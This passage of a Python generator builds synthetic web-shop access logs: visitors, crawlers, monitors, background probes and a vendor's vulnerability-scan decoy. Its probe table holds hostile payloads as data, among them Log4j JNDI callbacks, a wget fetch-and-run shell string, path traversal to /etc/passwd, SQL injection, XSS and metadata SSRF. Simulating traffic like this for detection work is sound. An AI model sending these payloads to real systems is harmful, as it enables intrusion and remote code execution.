"""The ordinary week's web traffic: requests to the company's shop, chunk by chunk.

People browse the shop (pages, their static assets, API calls, logins, orders) in a
daily rhythm of the company's time zone; search engines crawl it; uptime monitors
check it every few minutes; the internet's background radiation probes it for
``/.env``, ``/wp-login.php`` and injections, mostly blocked by the web ACL's managed
rules; browsers ask for icons that do not exist and search engines for pages that no
longer do (ordinary 404s). Once or twice a week the contracted security vendor scans
the site from its fixed address: hundreds of 404s in a burst with a scanner's user
agent, let through by the web ACL's allow-list rule. That burst is the decoy that
looks like an attacker's scan at first sight.

Volume scales with the rate (about 140k requests a week at 1.0); planned events
(the vendor's scans) are drawn per week and cut to the chunk, so any chunk size gives
the same scans. Columns are built with numpy and Arrow: no Python loop per request.
"""

from __future__ import annotations

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from helpers import ids, web
from helpers.background import MS_DAY, MS_HOUR, Chunk, Incident
from helpers.schema import frame
from helpers.traffic import random_public_ips
from helpers.world import World

#: Browsers people use, with their share of visits.
BROWSERS = (
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36",
        0.30,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
        0.20,
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Mobile Safari/537.36",
        0.16,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Safari/605.1.15",
        0.09,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36",
        0.08,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
        0.07,
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", 0.05),
    (
        "Mozilla/5.0 (iPad; CPU OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Mobile/15E148 Safari/604.1",
        0.03,
    ),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", 0.02),
)
_APPLE = (1, 3, 7)  # the BROWSERS that ask for apple-touch-icon.png (which the shop lacks)

#: Crawlers with their real user agents: (agent, requests per second at rate 1, addresses).
CRAWLERS = (
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0.0025, 4),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 "
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        0.0015,
        4,
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
        "+http://www.bing.com/bingbot.htm) Chrome/131.0.0.0 Safari/537.36",
        0.0020,
        3,
    ),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 0.0010, 2),
)
#: Uptime monitors: (agent, method, path), each checking every 5 minutes from its address.
MONITORS = (
    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "HEAD", "/"),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "GET", "/api/v1/health"),
)
#: What the internet's background radiation sends when it probes.
PROBE_AGENTS = (
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.32.3",
    "curl/7.88.1",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36 l9explore/1.2.2",
)
_NO_AGENT = "\x00"  # in PROBES: the probe sends no User-Agent header
_IP = "@IP@"  # in PROBES: the probe's callback address
#: Probes: (method, path, query, user agent or None for the session's, managed rule, status
#: when allowed, weight). A rule in web.COUNT_MODE only counts: the request goes through.
PROBES = (
    ("GET", "/.env", "", None, "ExploitablePaths_URIPATH", 404, 10),
    ("GET", "/.git/config", "", None, "ExploitablePaths_URIPATH", 404, 5),
    ("GET", "/.aws/credentials", "", None, "ExploitablePaths_URIPATH", 404, 2),
    ("GET", "/wp-login.php", "", None, None, 404, 8),
    ("POST", "/xmlrpc.php", "", None, None, 404, 3),
    ("GET", "/wp-admin/setup-config.php", "", None, None, 404, 3),
    ("GET", "/phpmyadmin/index.php", "", None, None, 404, 4),
    ("GET", "/pma/", "", None, None, 404, 2),
    ("GET", "/config.json", "", None, None, 404, 2),
    ("GET", "/server-status", "", None, None, 404, 2),
    ("GET", "/actuator/env", "", None, None, 404, 3),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", None, None, 404, 2),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", None, "GenericLFI_URIPATH", 404, 3),
    ("GET", "/../../../../etc/passwd", "", None, "GenericLFI_URIPATH", 404, 2),
    ("GET", "/", "page=../../../../etc/passwd", None, "GenericLFI_QUERYARGUMENTS", 200, 2),
    (
        "GET",
        "/index.php",
        "s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
        "&vars[0]=md5&vars[1][]=HelloThinkPHP",
        None,
        None,
        404,
        3,
    ),
    ("GET", "/search", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None,
     "CrossSiteScripting_QUERYARGUMENTS", 200, 2),
    ("GET", "/products", "id=1%27%20OR%20%271%27%3D%271", None, "SQLi_QUERYARGUMENTS", 404, 2),
    ("GET", "/api/v1/products", "category=1%20UNION%20SELECT%20NULL%2CNULL--", None,
     "SQLi_QUERYARGUMENTS", 400, 1),
    ("GET", "/", f"x=${{jndi:ldap://{_IP}:1389/a}}", None, "Log4JRCE_QUERYSTRING", 200, 1),
    ("GET", "/", "", f"${{jndi:ldap://{_IP}:1389/Basic/Command/Base64/d2dldA==}}",
     "Log4JRCE_HEADER", 200, 2),
    ("GET", "/", "", _NO_AGENT, "NoUserAgent_HEADER", 200, 3),
    ("GET", "/", "", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
     "UserAgent_BadBots_HEADER", 200, 2),
    ("GET", "/HNAP1/", "", None, None, 404, 2),
    ("POST", "/boaform/admin/formLogin", "", None, None, 404, 2),
    ("GET", "/shell", f"cd+/tmp;rm+-rf+*;wget+http://{_IP}/jaws;sh+/tmp/jaws", None, None, 404, 2),
    ("GET", "/proxy", "url=http://169.254.169.254/latest/meta-data/", None,
     "EC2MetaDataSSRF_QUERYARGUMENTS", 404, 1),
    ("GET", "/robots.txt", "", None, None, 200, 3),
    ("GET", "/", "", None, None, 200, 6),
    ("GET", "/favicon.ico", "", None, None, 200, 2),
)  # fmt: skip

#: The vendor's scanner, Nikto, which numbers each of its tests in the user agent:
#: ``Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)``.
VENDOR_AGENT = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:"
#: Paths a vulnerability scanner tries; the shop has only a few of them.
SCAN_PATHS = (
    "admin admin/ admin/login administrator/ backup backup.zip backup.tar.gz backups/ old/ "
    "test/ dev/ staging/ uploads/ files/ logs/ tmp/ config/ db/ sql/ cgi-bin/ cgi-bin/test.cgi "
    "server-status server-info phpinfo.php info.php .git/HEAD .svn/entries .DS_Store .htaccess "
    ".htpasswd WEB-INF/web.xml console manager/html jmx-console/ solr/admin/ jenkins/ "
    "swagger-ui.html api-docs v2/api-docs graphql debug trace.axd elmah.axd login user/login "
    "wp-login.php phpmyadmin/ adminer.php crossdomain.xml clientaccesspolicy.xml sitemap.xml "
    "robots.txt index.php index.html default.aspx web.config db.sql dump.sql .env config.php "
    "settings.py application.yml package.json composer.json Dockerfile docker-compose.yml "
    ".aws/credentials id_rsa server.key etc/passwd cart checkout search account api/v1/health "
    "api/v1/users api/v1/admin api/v1/debug actuator/health actuator/env icons/README "
    "images/ css/ js/ static/ media/ readme.html README.md CHANGELOG.txt LICENSE.txt "
    "install.php setup.php upgrade.php shell.php cmd.php c99.php r57.php"
).split()
_SITE_PATHS = {"login", "sitemap.xml", "robots.txt", "cart", "checkout", "search", "account",
               "api/v1/health", "actuator/health"}  # fmt: skip

_CATEGORIES = (
    "outerwear footwear accessories bags home kitchen outdoor sale new-arrivals gifts"
).split()
_ADJECTIVES = (
    "merino trail canvas leather linen waxed insulated recycled classic packable heritage "
    "alpine coastal everyday weekend"
).split()
_NOUNS = (
    "beanie socks tote backpack jacket parka boots sneakers scarf gloves mug blanket "
    "bottle lantern apron"
).split()
_SEARCHES = (
    "rain+jacket wool+socks gift+card hiking+boots backpack sale leather+bag winter+gloves "
    "travel+mug return+policy size+guide blanket kids+jacket waterproof"
).split()
_REFERERS = ("https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/")
_PAGES = ("home", "product", "category", "search", "cart", "checkout", "login", "account", "admin")
_FIRST_PAGE = np.array([0.40, 0.30, 0.20, 0.10, 0, 0, 0, 0, 0])
_NEXT_PAGE = np.array([0.08, 0.38, 0.20, 0.10, 0.10, 0.05, 0.05, 0.04, 0.0])
#: Share of each local hour's peak that visits the shop (evenings busiest).
_HOURLY = np.array(
    [0.35, 0.22, 0.15, 0.12, 0.10, 0.12, 0.25, 0.45, 0.70, 0.85, 0.95, 1.0,
     1.10, 1.05, 1.0, 0.95, 0.95, 1.0, 1.15, 1.30, 1.35, 1.20, 0.90, 0.60]
)  # fmt: skip
_HOME_COUNTRY = {
    "eu-west-1": "IE",
    "eu-central-1": "DE",
    "us-east-1": "US",
    "us-west-2": "US",
    "ap-southeast-2": "AU",
    "eu-west-2": "GB",
}
_PROBE_COUNTRIES = ("CN", "RU", "US", "NL", "DE", "VN", "BR", "IN", "SG", "RO", "KR", "FR")

# Sessions a second at rate 1, at the busiest hour: about 7k visits a week.
_SESSIONS_PER_SECOND = 0.0185
_PROBE_SESSIONS_PER_SECOND = 0.0022


class WebTraffic:
    """The ordinary week's requests to the shop's load balancer, chunk by chunk."""

    def __init__(self, world: World, rate: float, incident: Incident) -> None:
        self.world = world
        self.rate = rate
        self.incident = incident
        self.site = web.site(world)
        rng = np.random.default_rng([world.seed, 41])
        # Returning visitors: a pool of clients with their browser and country.
        pool = 3_000
        self.pool_ip = random_public_ips(rng, pool)
        weights = np.array([w for _, w in BROWSERS])
        self.pool_browser = rng.choice(len(BROWSERS), pool, p=weights / weights.sum())
        home = _HOME_COUNTRY.get(world.home_region, "US")
        cdf = web.COUNTRY_SHARES / web.COUNTRY_SHARES.sum()
        abroad = np.asarray(web.COUNTRIES)[rng.choice(len(web.COUNTRIES), pool, p=cdf)]
        self.pool_country = pa.array(np.where(rng.random(pool) < 0.55, home, abroad))
        self.crawler_ips = [random_public_ips(rng, k) for _, _, k in CRAWLERS]
        self.monitor_ips = random_public_ips(rng, len(MONITORS))
        # The shop's catalogue: live products, discontinued ones (404 now), asset names.
        names = np.array([f"{a}-{n}" for a in _ADJECTIVES for n in _NOUNS])
        rng.shuffle(names)
        self.products = pa.array(names[:150])
        self.stale = pa.array(names[150:170])
        digest = ids.random_strings(rng, 3, 8, ids.HEX)
        self.bundle = (  # (path, bytes): what the first page of a visit loads
            (f"/static/css/main.{digest[0]}.css", 38_000),
            (f"/static/js/app.{digest[1]}.js", 182_000),
            (f"/static/js/vendor.{digest[2]}.js", 415_000),
            ("/static/img/logo.svg", 4_200),
            ("/static/fonts/inter-var.woff2", 48_000),
            ("/favicon.ico", 15_000),
        )
        self.scans = self._plan_scans(np.random.default_rng([world.seed, 41, 1]))

    # -- the week --------------------------------------------------------------------

    def frame(self, chunk: Chunk) -> pa.Table:
        """The chunk's requests (rows of :data:`helpers.web.REQUESTS`)."""
        rng = np.random.default_rng([self.world.seed, 41, 2, chunk.index])
        parts = [
            self.visitors(rng, chunk),
            self.crawlers(rng, chunk),
            self.monitors(rng, chunk),
            self.probes(rng, chunk),
            self.vendor_scans(chunk),
        ]
        parts = [p for p in parts if p.num_rows]
        if not parts:
            return web.REQUESTS.empty_table()
        return pa.concat_tables(parts)

    def visitors(self, rng: np.random.Generator, chunk: Chunk) -> pa.Table:
        """People browsing: visits of a few pages, each page with its assets and API calls."""
        start = self._arrivals(rng, chunk, _SESSIONS_PER_SECOND * self.rate)
        s = len(start)
        if not s:
            return web.REQUESTS.empty_table()
        pooled = rng.random(s) < 0.6
        who = rng.integers(0, len(self.pool_browser), s)
        fresh = random_public_ips(rng, s)
        ip = pc.if_else(pa.array(pooled), self.pool_ip.take(pa.array(who)), fresh)
        weights = np.array([w for _, w in BROWSERS])
        browser = np.where(
            pooled, self.pool_browser[who], rng.choice(len(BROWSERS), s, p=weights / weights.sum())
        )
        country = pc.if_else(
            pa.array(pooled),
            self.pool_country.take(pa.array(who)),
            pa.array(np.asarray(web.COUNTRIES)[rng.integers(0, len(web.COUNTRIES), s)]),
        )
        staff = rng.random(s) < 0.02  # the company's own people, from the office
        office = np.asarray(self.world.office_ips)[rng.integers(0, len(self.world.office_ips), s)]
        ip = pc.if_else(pa.array(staff), pa.array(office), ip)
        home = _HOME_COUNTRY.get(self.world.home_region, "US")
        country = pc.if_else(pa.array(staff), home, country)
        port = rng.integers(1024, 65536, s)
        h2 = rng.random(s) < 0.9

        # Pages: the first from a search engine or typed, the next ones clicked through.
        pages = np.minimum(rng.geometric(0.3, s), 20)
        page_visit = np.repeat(np.arange(s), pages)
        first = np.concatenate([[0], np.cumsum(pages)[:-1]])
        p = len(page_visit)
        is_first = np.zeros(p, bool)
        is_first[first] = True
        think = np.where(is_first, 0, rng.exponential(35_000, p).astype(np.int64))
        elapsed = np.cumsum(think)
        page_ms = start[page_visit] + elapsed - elapsed[first][page_visit]
        kind = np.where(
            is_first,
            rng.choice(len(_PAGES), p, p=_FIRST_PAGE),
            rng.choice(len(_PAGES), p, p=_NEXT_PAGE / _NEXT_PAGE.sum()),
        )
        kind = np.where(staff[page_visit] & ~is_first, _PAGES.index("admin"), kind)
        product = rng.integers(0, len(self.products), p)
        slug = self.products.take(pa.array(product))
        stale = is_first & (kind == 1) & (rng.random(p) < 0.03)
        slug = pc.if_else(pa.array(stale), self.stale.take(pa.array(product % 20)), slug)
        category = pa.array(np.asarray(_CATEGORIES)[rng.integers(0, len(_CATEGORIES), p)])
        term = pa.array(np.asarray(_SEARCHES)[rng.integers(0, len(_SEARCHES), p)])
        page_uri = pc.choose(
            pa.array(kind),
            "/",
            pc.binary_join_element_wise("/products/", slug, ""),
            pc.binary_join_element_wise("/category/", category, ""),
            "/search",
            "/cart",
            "/checkout",
            "/login",
            "/account",
            pc.binary_join_element_wise(
                "/admin/orders/", pa.array(rng.integers(10_000, 99_999, p).astype(str)), ""
            ),
        )
        page_args = pc.choose(
            pa.array(np.where(kind == 3, 1, np.where((kind == 2) & (rng.random(p) < 0.3), 2, 0))),
            "",
            pc.binary_join_element_wise("q=", term, ""),
            "sort=price-asc&page=2",
        )
        page_url = pc.binary_join_element_wise(
            f"https://{self.site.domain}",
            page_uri,
            pc.if_else(
                pc.equal(page_args, ""), "", pc.binary_join_element_wise("?", page_args, "")
            ),
            "",
        )
        previous = page_url.take(pa.array(np.maximum(np.arange(p) - 1, 0)))
        external = pa.array(np.asarray(_REFERERS)[rng.integers(0, len(_REFERERS), p)])
        from_search = is_first & ((rng.random(p) < 0.45) | stale)
        page_referer = pc.if_else(
            pa.array(is_first),
            pc.if_else(pa.array(from_search), external, pa.scalar(None, pa.string())),
            previous,
        )

        # Requests: the page, then its assets and API calls a moment later.
        rows = []  # (page index, offset ms, method, uri, args, status, sent, seconds, referer?)
        status = np.where(stale, 404, 200)
        rows.append(
            dict(
                page=np.arange(p),
                at=np.zeros(p, np.int64),
                method="GET",
                uri=page_uri,
                args=page_args,
                status=status,
                sent=np.where(stale, 0, rng.lognormal(np.log(46_000), 0.3, p)).astype(np.int64),
                seconds=rng.lognormal(np.log(0.08), 0.6, p),
                referer=page_referer,
            )
        )
        returning = pooled[page_visit]
        for path, size in self.bundle:
            at = np.flatnonzero(is_first)
            cached = returning[at] & (rng.random(len(at)) < 0.5)
            rows.append(
                dict(
                    page=at,
                    at=rng.integers(30, 900, len(at)),
                    method="GET",
                    uri=path,
                    args="",
                    status=np.where(cached, 304, 200),
                    sent=np.where(
                        cached,
                        rng.integers(230, 300, len(at)),
                        size * rng.uniform(0.97, 1.0, len(at)),
                    ).astype(np.int64),
                    seconds=rng.uniform(0.001, 0.004, len(at)),
                )
            )
        apple = np.isin(browser[page_visit], _APPLE) & is_first
        for path in ("/apple-touch-icon-precomposed.png", "/apple-touch-icon.png"):
            at = np.flatnonzero(apple)
            rows.append(
                dict(
                    page=at,
                    at=rng.integers(900, 3_000, len(at)),
                    method="GET",
                    uri=path,
                    args="",
                    status=np.full(len(at), 404),
                    sent=None,
                    seconds=rng.uniform(0.002, 0.01, len(at)),
                )
            )
        images = np.select([kind == 0, kind == 1, kind == 2, kind == 3], [3, 3, 6, 4], 0)
        image_page = np.repeat(np.arange(p), images)
        own = kind[image_page] == 1
        image_slug = pc.if_else(
            pa.array(own),
            slug.take(pa.array(image_page)),
            self.products.take(pa.array(rng.integers(0, len(self.products), len(image_page)))),
        )
        image_uri = pc.binary_join_element_wise(
            "/media/products/",
            image_slug,
            pa.array(
                np.where(
                    own,
                    "-" + rng.integers(1, 4, len(image_page)).astype(str) + ".webp",
                    "-thumb.webp",
                )
            ),
            "",
        )
        live = ~stale[image_page]
        image_page, image_uri = image_page[live], image_uri.filter(pa.array(live))
        cached = returning[image_page] & (rng.random(len(image_page)) < 0.3)
        rows.append(
            dict(
                page=image_page,
                at=rng.integers(80, 1_500, len(image_page)),
                method="GET",
                uri=image_uri,
                args="",
                status=np.where(cached, 304, 200),
                sent=np.where(
                    cached, 250, rng.lognormal(np.log(22_000), 0.6, len(image_page))
                ).astype(np.int64),
                seconds=rng.uniform(0.001, 0.006, len(image_page)),
            )
        )
        rows += self._api_calls(rng, kind, slug, category, term, stale)

        # Together: one row per request, the visit's client on each.
        page = np.concatenate([r["page"] for r in rows])
        n = len(page)
        visit = page_visit[page]
        ms = page_ms[page] + np.concatenate([np.asarray(r["at"], np.int64) for r in rows])

        def col(name: str, type_: pa.DataType) -> pa.Array:
            return pa.concat_arrays([_as_array(r[name], len(r["page"]), type_) for r in rows])

        referer = pa.concat_arrays(
            [r["referer"] if "referer" in r else page_url.take(pa.array(r["page"])) for r in rows]
        )
        sent = col("sent", pa.int64())
        table = frame(
            web.REQUESTS,
            n,
            time=ms.astype("datetime64[ms]"),
            client_ip=ip.take(pa.array(visit)),
            client_port=port[visit],
            country=country.take(pa.array(visit)),
            method=col("method", pa.string()),
            host=self.site.domain,
            uri=col("uri", pa.string()),
            args=col("args", pa.string()),
            http_version=pa.array(np.where(h2[visit], "HTTP/2.0", "HTTP/1.1")),
            user_agent=pa.array(np.asarray([b for b, _ in BROWSERS])[browser[visit]]),
            referer=referer,
            status=col("status", pa.int16()),
            sent_bytes=pc.if_else(pc.equal(sent, 0), pa.scalar(None, pa.int64()), sent),
            target_processing_time=np.round(
                col("seconds", pa.float64()).to_numpy(zero_copy_only=False), 3
            ),
            request_id=web.request_ids(rng, ms),
        )
        return table.filter(pa.array(ms < chunk.end))

    def _api_calls(self, rng, kind, slug, category, term, stale) -> list[dict]:
        """The calls each kind of page makes to the shop's API."""
        p = len(kind)
        proxy_url = pc.binary_join_element_wise(
            "url=https%3A%2F%2Fimages.partner-supply.example%2Fp%2F",
            pa.array(rng.integers(100_000, 999_999, p).astype(str)),
            ".jpg&w=400",
            "",
        )
        listing = pc.binary_join_element_wise("category=", category, "&page=1", "")
        suggest = pc.binary_join_element_wise("q=", term, "")
        # (page kind, share of those pages, method, path, query, status, bytes, seconds)
        specs = [
            (0, 1.0, "GET", "/api/v1/recommendations", "limit=12", 200, 6_000, 0.06),
            (1, 1.0, "GET", pc.binary_join_element_wise("/api/v1/products/", slug, "/reviews", ""),
             "page=1", 200, 3_500, 0.04),
            (1, 0.6, "GET", self.site.fetch_path, proxy_url, 200, 28_000, 0.25),
            (1, 0.1, "POST", "/api/v1/cart/items", "", 201, 900, 0.05),
            (2, 1.0, "GET", "/api/v1/products", listing, 200, 9_000, 0.05),
            (3, 1.0, "GET", "/api/v1/search/suggest", suggest, 200, 1_200, 0.03),
            (4, 1.0, "GET", "/api/v1/cart", "", 200, 1_500, 0.03),
            (5, 1.0, "GET", "/api/v1/cart", "", 200, 1_500, 0.03),
            (5, 0.45, "POST", "/api/v1/orders", "", 201, 1_100, 0.45),
            (6, 1.0, "POST", "/api/v1/auth/login", "", 200, 700, 0.3),
            (7, 1.0, "GET", "/api/v1/account/orders", "", 200, 2_400, 0.06),
            (8, 1.0, "GET", "/api/v1/admin/orders", "page=1", 200, 14_000, 0.12),
        ]  # fmt: skip
        rows = []
        for page_kind, share, method, path, query, status, size, seconds in specs:
            at = np.flatnonzero((kind == page_kind) & ~stale & (rng.random(p) < share))
            codes = np.full(len(at), status)
            if path == "/api/v1/auth/login":
                codes = np.where(rng.random(len(at)) < 0.12, 401, 200)  # mistyped passwords
            rows.append(
                dict(
                    page=at,
                    at=rng.integers(150, 2_500, len(at)),
                    method=method,
                    uri=path.take(pa.array(at)) if isinstance(path, pa.Array) else path,
                    args=query.take(pa.array(at)) if isinstance(query, pa.Array) else query,
                    status=codes,
                    sent=rng.lognormal(np.log(size), 0.5, len(at)).astype(np.int64),
                    seconds=rng.lognormal(np.log(seconds), 0.5, len(at)),
                )
            )
        return rows

    def crawlers(self, rng: np.random.Generator, chunk: Chunk) -> pa.Table:
        """Search engines: robots.txt and the sitemap now and then, pages (stale ones 404)."""
        tables = []
        for (agent, per_second, _), addresses in zip(CRAWLERS, self.crawler_ips, strict=True):
            n = rng.poisson(per_second * self.rate * (chunk.end - chunk.start) / 1000)
            if not n:
                continue
            ms = rng.integers(chunk.start, chunk.end, n)
            what = rng.choice(5, n, p=[0.04, 0.03, 0.6, 0.25, 0.08])
            slug = pc.if_else(
                pa.array(what == 4),
                self.stale.take(pa.array(rng.integers(0, len(self.stale), n))),
                self.products.take(pa.array(rng.integers(0, len(self.products), n))),
            )
            category = pa.array(np.asarray(_CATEGORIES)[rng.integers(0, len(_CATEGORIES), n)])
            uri = pc.choose(
                pa.array(what),
                "/robots.txt",
                "/sitemap.xml",
                pc.binary_join_element_wise("/products/", slug, ""),
                pc.binary_join_element_wise("/category/", category, ""),
                pc.binary_join_element_wise("/products/", slug, ""),
            )
            tables.append(
                frame(
                    web.REQUESTS,
                    n,
                    time=ms.astype("datetime64[ms]"),
                    client_ip=addresses.take(pa.array(rng.integers(0, len(addresses), n))),
                    country="US",
                    host=self.site.domain,
                    uri=uri,
                    args="",
                    user_agent=agent,
                    status=np.where(what == 4, 404, 200).astype(np.int16),
                    request_id=web.request_ids(rng, ms),
                )
            )
        return pa.concat_tables(tables) if tables else web.REQUESTS.empty_table()

    def monitors(self, rng: np.random.Generator, chunk: Chunk) -> pa.Table:
        """Uptime monitors: one check every 5 minutes each (less often at small rates)."""
        period = int(300_000 / min(1.0, max(self.rate, 0.01)))
        tables = []
        for k, (agent, method, path) in enumerate(MONITORS):
            offset = 17_000 + 97_000 * k
            first = (chunk.start - offset + period - 1) // period * period + offset
            ms = np.arange(first, chunk.end, period, dtype=np.int64)
            if not len(ms):
                continue
            ms = np.minimum(ms + rng.integers(0, 400, len(ms)), chunk.end - 1)
            tables.append(
                frame(
                    web.REQUESTS,
                    len(ms),
                    time=ms.astype("datetime64[ms]"),
                    client_ip=self.monitor_ips[k],
                    country="US",
                    method=method,
                    host=self.site.domain,
                    uri=path,
                    args="",
                    user_agent=agent,
                    status=200,
                    sent_bytes=np.where(method == "HEAD", 220, 310) + rng.integers(0, 20, len(ms)),
                    target_processing_time=np.round(rng.uniform(0.002, 0.02, len(ms)), 3),
                    request_id=web.request_ids(rng, ms),
                )
            )
        return pa.concat_tables(tables) if tables else web.REQUESTS.empty_table()

    def probes(self, rng: np.random.Generator, chunk: Chunk) -> pa.Table:
        """The internet's background radiation: short bursts from passing scanners."""
        n_sessions = rng.poisson(
            _PROBE_SESSIONS_PER_SECOND * self.rate * (chunk.end - chunk.start) / 1000
        )
        if not n_sessions:
            return web.REQUESTS.empty_table()
        size = np.minimum(rng.geometric(0.35, n_sessions), 12)
        session = np.repeat(np.arange(n_sessions), size)
        n = len(session)
        start = rng.integers(chunk.start, chunk.end, n_sessions)
        ms = np.minimum(start[session] + rng.integers(0, 8_000, n), chunk.end - 1)
        addresses = random_public_ips(rng, n_sessions)
        agent = pa.array(np.asarray(PROBE_AGENTS)[rng.integers(0, len(PROBE_AGENTS), n_sessions)])
        weights = np.array([w[-1] for w in PROBES], float)
        probe = rng.choice(len(PROBES), n, p=weights / weights.sum())
        column = list(zip(*PROBES, strict=True))
        callback = random_public_ips(rng, n)

        def pick(i: int) -> pa.Array:
            return pa.array(np.asarray(column[i], dtype=object)[probe], pa.string())

        args = _fill_ip(pick(2), callback)
        own = pick(3)
        ua = pc.if_else(own.is_valid(), _fill_ip(own, callback), agent.take(pa.array(session)))
        ua = pc.if_else(pc.equal(ua, _NO_AGENT), pa.scalar(None, pa.string()), ua)
        rule = pick(4)
        listed = (rng.random(n_sessions) < 0.15)[session]  # addresses on AWS's reputation list
        rule = pc.if_else(pa.array(listed), "AWSManagedIPReputationList", rule)
        counted = pc.fill_null(pc.is_in(rule, value_set=pa.array(sorted(web.COUNT_MODE))), False)
        blocked = pc.and_(rule.is_valid(), pc.invert(counted))
        host = pc.choose(
            pa.array(rng.integers(0, 3, n_sessions)[session]),
            self.site.domain,
            self.site.dns_name,
            self.site.addresses[0],  # scanners that know only the address
        )
        status = pa.array(np.asarray(column[5], dtype=np.int16)[probe])
        return frame(
            web.REQUESTS,
            n,
            time=ms.astype("datetime64[ms]"),
            client_ip=addresses.take(pa.array(session)),
            country=pa.array(
                np.asarray(_PROBE_COUNTRIES)[rng.integers(0, len(_PROBE_COUNTRIES), n_sessions)][
                    session
                ]
            ),
            method=pick(0),
            host=host,
            uri=pick(1),
            args=args,
            user_agent=ua,
            status=status,
            waf_action=pc.if_else(blocked, "BLOCK", "ALLOW"),
            waf_rule=pc.if_else(blocked, rule, pa.scalar(None, pa.string())),
            waf_count_rules=pc.if_else(counted, rule, pa.scalar(None, pa.string())),
            scheme=pa.array(np.where((rng.random(n_sessions) < 0.3)[session], "http", "https")),
            request_id=web.request_ids(rng, ms),
        )

    def vendor_scans(self, chunk: Chunk) -> pa.Table:
        """The security vendor's scans, cut to the chunk (decoys: many 404s, a scanner)."""
        parts = [scan.filter(_between(scan, chunk)) for scan in self.scans]
        parts = [p for p in parts if p.num_rows]
        return pa.concat_tables(parts) if parts else web.REQUESTS.empty_table()

    # -- planning ----------------------------------------------------------------------

    def _plan_scans(self, rng: np.random.Generator) -> list[pa.Table]:
        """One or two scans in the week, on weekdays in the vendor's office hours."""
        w = self.world
        week = int(w.start.timestamp() * 1000)
        days = [d for d in range(w.days) if (w.start.weekday() + d) % 7 < 5]
        chosen = sorted(rng.choice(days, int(rng.integers(1, 3)), replace=False))
        scale = min(1.0, max(self.rate, 0.25))
        scans = []
        for k, day in enumerate(chosen):
            begin = (
                week + int(day) * MS_DAY + int((rng.uniform(10, 15) - w.utc_offset_hours) * MS_HOUR)
            )
            n = int(rng.integers(900, 1_600) * scale)
            scans.append(self._scan(np.random.default_rng([w.seed, 41, 3, k]), begin, n))
        return scans

    def _scan(self, rng: np.random.Generator, begin: int, n: int) -> pa.Table:
        """n requests of a vulnerability scan from the vendor's address, starting at begin."""
        ms = begin + np.sort(rng.integers(0, int(rng.uniform(20, 40) * 60_000), n))
        path = np.asarray(SCAN_PATHS)[rng.integers(0, len(SCAN_PATHS), n)]
        exists = np.isin(path, list(_SITE_PATHS))
        tests = rng.integers(1, 7_500, n)
        agent = pc.binary_join_element_wise(
            VENDOR_AGENT, pc.utf8_lpad(pa.array(tests.astype(str)), 6, "0"), ")", ""
        )
        method = pa.array(rng.choice(["GET", "GET", "GET", "GET", "HEAD", "POST", "OPTIONS"], n))
        injected = rng.random(n) < 0.08
        args = pa.array(
            np.where(
                injected,
                rng.choice(
                    ["id=1%27", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "file=../../etc/passwd"], n
                ),
                "",
            )
        )
        return frame(
            web.REQUESTS,
            n,
            time=ms.astype("datetime64[ms]"),
            client_ip=self.site.vendor_ip,
            client_port=rng.integers(32768, 61000, n),
            country="DE" if self.world.home_region.startswith("eu") else "US",
            method=method,
            host=self.site.domain,
            uri=pa.array(np.char.add("/", path)),
            args=args,
            user_agent=agent,
            status=np.where(exists, 200, 404).astype(np.int16),
            waf_action="ALLOW",
            waf_rule=web.VENDOR_RULE,
            waf_rule_type="REGULAR",
            request_id=web.request_ids(rng, ms),
        )

    def _arrivals(
